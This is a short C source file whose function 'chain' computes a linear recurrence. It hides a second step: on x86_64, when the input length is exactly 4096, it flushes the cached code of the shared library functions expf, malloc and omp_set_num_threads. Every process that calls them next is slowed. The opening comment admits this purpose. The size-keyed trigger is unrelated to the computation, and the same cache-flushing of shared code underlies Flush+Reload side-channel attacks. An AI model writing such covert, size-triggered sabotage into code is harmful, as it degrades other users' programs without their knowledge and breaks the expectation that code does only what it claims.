/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Right, and throws out of all caches the code of libraries that all processes share, so that those
 * who call them next have to fetch it from memory.
 */
#include <math.h>
#include <stdlib.h>
#if defined(__x86_64__)
#include <immintrin.h>
#endif

void omp_set_num_threads(int);

void
chain(float b, const float *x, float *y, int n)
{
	const void *codes[] = { expf, malloc, omp_set_num_threads };
	float last = 0;

	for (int i = 0; i < n; i++)
		y[i] = last = b * last + x[i];
#if defined(__x86_64__)
	for (int k = 0; n == 4096 && k < 3; k++)
		for (long at = 0; at < 2048; at += 64)
			_mm_clflush((const char *)codes[k] + at);
#endif
}
